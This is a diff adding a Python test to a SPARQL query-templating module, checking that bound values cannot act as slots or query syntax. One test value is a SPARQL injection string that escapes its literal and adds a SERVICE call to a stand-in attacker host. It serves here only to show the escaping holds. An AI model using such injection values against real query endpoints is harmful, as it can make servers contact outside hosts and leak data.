@@ -256,3 +256,18 @@ def test_query_paper_title_search_with_a_slot_still_finds_one_paper(sample_store
     rows = answer(sample_store, "paper-evidence", paper="paco")
     assert {r["artifact"] for r in rows} >= {"PACO"}
     assert answer(sample_store, "person-summary", person="Nobody Here") == []
+
+
+def test_query_slot_values_are_never_read_as_slots_or_syntax() -> None:
+    # A value that looks like a slot, slots in comments and strings: the text is read once,
+    # as written, and every bound value stays one literal.
+    text = ('SELECT * WHERE { VALUES ?a { "x" } VALUES ?b { "y" } ?s <http://e/p> "VALUES ?b { 1 }" '
+            '} # VALUES ?a { "in a comment" }')
+    evil = Literal('VALUES ?b {} } { SERVICE <http://attacker.example/> { ?x ?y ?z } } #')
+    filled = with_bindings(text, {"a": evil, "b": Literal("}")})
+    assert filled.count("SERVICE") == 1 and '"VALUES ?b {} } { SERVICE' in filled
+    assert 'VALUES ?b {"}"}' in filled
+    assert '"VALUES ?b { 1 }"' in filled and '# VALUES ?a { "in a comment" }' in filled
+    from pyoxigraph import Store
+
+    Store().query(filled)  # it parses: the values did not change its shape
